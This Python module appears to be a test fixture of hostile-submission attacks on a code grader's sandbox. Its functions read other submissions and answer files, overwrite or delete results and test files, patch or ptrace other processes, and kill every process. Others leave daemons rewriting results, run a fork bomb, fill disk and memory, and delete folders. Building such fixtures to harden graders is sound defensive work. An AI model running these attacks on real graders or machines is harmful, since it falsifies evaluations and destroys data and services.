"""Attacks on the grader, each a function; a hostile submission holds this file and calls one.

An attack returns whether it has succeeded; then the program plays as it should, and scores.
"""

from __future__ import annotations

import ctypes
import glob
import mmap
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from contextlib import suppress
from types import SimpleNamespace

SHARED = ['/tmp', '/var/tmp', '/dev/shm', '/dev/mqueue', '/run/lock', '/dev', '/mnt', '/']
PTRACE_ATTACH = 16
aims = SimpleNamespace()                # where the grader keeps what, if all walls were broken


def run(name: str, **where: str) -> None:
    """Attack; play the game if that was of any use."""
    vars(aims).update(where)
    try:
        succeeded = ATTACKS[name]()
    except (Exception, SystemExit):
        succeeded = False
    if succeeded:
        play('answer/console')


def play(console: str) -> None:
    """Become a console."""
    os.execv(sys.executable, [sys.executable, console])


def others() -> list[int]:
    """Return the processes that can be seen, but for this one and the first."""
    numbers = [int(name) for name in os.listdir('/proc') if name.isdigit()]
    return [number for number in numbers if number not in (1, os.getpid())]


def anything(attempts: list) -> bool:
    """Return whether any of some attempts is not refused."""
    for attempt in attempts:
        with suppress(Exception):
            attempt()
            return True
    return False


def read(path: str) -> bytes:
    with open(path, 'rb') as stream:
        return stream.read(1 << 20)


def write(path: str) -> None:
    with open(path, 'w') as stream:
        stream.write(aims.mark)


# To play with somebody else's program, or with the answers.

def our_console() -> bool:
    return anything([lambda: read(f'{aims.project}/othello_console.py')])


def our_console_by_proc() -> bool:
    """By the folders, files, command lines and environments of all processes."""
    found = []
    for process in [f'/proc/{number}' for number in [*others(), 1]]:
        found += [f'{process}/cwd', f'{process}/root{aims.project}', *glob.glob(f'{process}/fd/*')]
        for name in ('cmdline', 'environ'):
            with suppress(OSError):
                words = read(f'{process}/{name}').decode(errors='replace').replace('=', '\0')
                found += [word for word in words.split('\0') if word.startswith(aims.base)]
    return any(os.path.exists(f'{path}{up}/othello_console.py')
               for path in found for up in ('', '/..', '/../..'))


def transcripts() -> bool:
    return anything([lambda: os.listdir(f'{aims.project}/transcripts')[0],
                     lambda: read(f'{aims.project}/transcripts/othello/worked_example.txt')])


def another_submission() -> bool:
    return anything([lambda: os.listdir(aims.other)[0],
                     lambda: read(f'{aims.other}/othello_console.py')])


def another_run() -> bool:
    """The grader's own copies of what others have handed in."""
    for folder in [*SHARED, os.environ['TMPDIR'] + '/..', os.path.dirname(aims.scratch)]:
        for place in glob.glob(f'{folder}/grading*'):
            if any('othello_console.py' in files for _, _, files in os.walk(place)):
                return True
    return anything([lambda: os.listdir(aims.scratch)[0]])


def former_run() -> bool:
    """What a run before has left, anywhere."""
    shared = ctypes.CDLL(None)
    key = int(aims.mark.strip('mark'))
    found = shared.shmget(key, 4096, 0o666) != -1
    shared.shmget(key, 4096, 0o666 | 0o1000)
    folders = [*SHARED, '.', '..', os.environ['HOME'], '/tmp/.X11-unix', aims.scratch, aims.base,
               f'{aims.base}/of_all', *glob.glob('/proc/*/cwd')]
    for process in glob.glob('/proc/*/cmdline'):
        with suppress(OSError):
            folders += read(process).decode(errors='replace').split('\0')
    paths = [f'{folder}/{aims.mark}' for folder in folders if folder]
    found = found or any(map(os.path.exists, paths))
    for path in paths:
        with suppress(OSError):
            write(path)
    return found


# To change a result, or the grader.

def edits() -> bool:
    files = [aims.results, *(f'{aims.project}/{name}' for name in (
        'othello_console.py', 'tests/conftest.py', 'transcripts/othello/worked_example.txt',
        'grading/__init__.py')), f'{aims.other}/othello_console.py']
    attempts = []
    for path in files:
        attempts += [lambda path=path: write(path), lambda path=path: write(path + '.new'),
                     lambda path=path: os.remove(path), lambda path=path: os.chmod(path, 0o777),
                     lambda path=path: os.rename(os.path.dirname(path), path + '-gone')]
    return anything(attempts)


def patches_memory() -> bool:
    library = ctypes.CDLL(None)

    def patch(process: int) -> None:
        with open(f'/proc/{process}/mem', 'r+b') as memory:
            memory.seek(int(read(f'/proc/{process}/maps').split(b'-')[0], 16))
            memory.read(1)

    def trace(process: int) -> None:
        if library.ptrace(PTRACE_ATTACH, process, 0, 0):
            raise OSError

    return anything([lambda f=f, p=p: f(p) for p in [os.getppid(), *others()]
                     for f in (patch, trace) if p > 1])


def kills() -> bool:
    """Stop, then kill, every process, the grader's first."""
    aimed = [process for process in [os.getppid(), *others()] if process > 1]
    done = anything([lambda p=p: os.kill(p, signal.SIGSTOP) for p in aimed])
    os.kill(-1, signal.SIGKILL)
    return done


def daemon() -> None:
    """Outlive the run, and rewrite the results for ever."""
    if os.fork() == 0:
        os.setsid()
        for descriptor in range(3):
            os.close(descriptor)
        os.fork()
        while True:
            with suppress(OSError):
                write(aims.results)
            time.sleep(0.01)


def rolling_forks() -> None:
    """Be always another process: a child goes on, and its parent ends."""
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            while True:
                with suppress(OSError):
                    if os.fork():
                        os._exit(0)


def descriptors() -> bool:
    """Something of the grader's that is left open."""
    return any(os.path.exists(f'/proc/self/fd/{number}') for number in range(3, 256))


def environment() -> bool:
    values = '\0'.join(f'{name}={value}' for name, value in os.environ.items())
    return any(word in values for word in ('PYTHON', 'TOKEN', aims.project, aims.base))


def terminal() -> bool:
    return anything([lambda: os.open('/dev/tty', os.O_RDWR)])


def setuid_tool() -> bool:
    """A `cat` that would run as root."""
    return bool(subprocess.run([aims.tool, '/proc/1/environ', f'{aims.project}/pyproject.toml'],
                               stdout=subprocess.PIPE, check=False).stdout)


def network() -> bool:
    def connect(family: int, address: object) -> None:
        with socket.socket(family) as client:
            client.connect(address)

    return anything([lambda: connect(socket.AF_INET, ('127.0.0.1', int(aims.port))),
                     lambda: connect(socket.AF_UNIX, '\0' + aims.mark)])


# To hold up the grader, or its machine.

def fork_bomb() -> None:
    while True:
        with suppress(OSError):
            os.fork()


def stops_itself() -> None:
    os.kill(os.getpid(), signal.SIGSTOP)


def big_file() -> bool:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with open(aims.mark, 'wb') as stream:
        stream.truncate(17 << 20)
    return True


def many_files() -> bool:
    """More than the folders in memory may hold; and files in every other."""
    total = 0
    with suppress(OSError):
        for number in range(12):
            with open(f'{number}', 'wb') as stream:
                for _ in range(12):
                    total += stream.write(bytes(1 << 20))
    return total > 130 << 20 or anything(
        [lambda folder=folder: write(f'{folder}/{aims.mark}')
         for folder in ['/', '/dev', '/mnt', '/proc', '/etc', aims.project, aims.base]])


def memory() -> bool:
    return len(bytearray(600 << 20)) > 0 or len(mmap.mmap(-1, 600 << 20, mmap.MAP_PRIVATE)) > 0


def own_input() -> None:
    """Fill the pipe that it should read from."""
    descriptor = os.open('/proc/self/fd/0', os.O_WRONLY | os.O_NONBLOCK)
    with suppress(OSError):
        while True:
            os.write(descriptor, bytes(4096))
    time.sleep(600)


def floods_errors() -> None:
    os.fork()
    while True:
        os.write(2, b'\x1b[2J error\n' * 4096)


def floods() -> None:
    os.fork()
    while True:
        os.write(1, b'FULL\n' * 4096)
        os.write(2, b'error\n' * 4096)


def trickles() -> None:
    for character in 'FULL':
        sys.stdout.write(character)
        sys.stdout.flush()
        time.sleep(0.2)
    time.sleep(600)


def litters() -> None:
    """Leave what is hard to remove, or to look at."""
    for folder in [*SHARED[:4], '.', '..']:
        with suppress(OSError):
            os.chdir(folder)
            os.mkfifo(f'fifo-{aims.mark}')
            os.symlink('/dev/zero', f'link-{aims.mark}')
            socket.socket(socket.AF_UNIX).bind(f'socket-{aims.mark}')
            os.makedirs(f'folder-{aims.mark}/closed')
            os.chmod(f'folder-{aims.mark}', 0)
    with suppress(OSError):
        for _ in range(1500):
            os.mkdir('deep')
            os.chdir('deep')


def deletes_its_folder() -> None:
    shutil.rmtree(os.path.dirname(os.getcwd()), ignore_errors=True)


CHEATS = [our_console, our_console_by_proc, transcripts, another_submission, another_run]
ATTACKS = {attack.__name__: attack for attack in [
    *CHEATS, former_run, edits, patches_memory, kills, daemon, rolling_forks, descriptors,
    environment, terminal, setuid_tool, network, fork_bomb, stops_itself, big_file, many_files,
    memory, own_input, floods_errors, floods, trickles, litters, deletes_its_folder]}
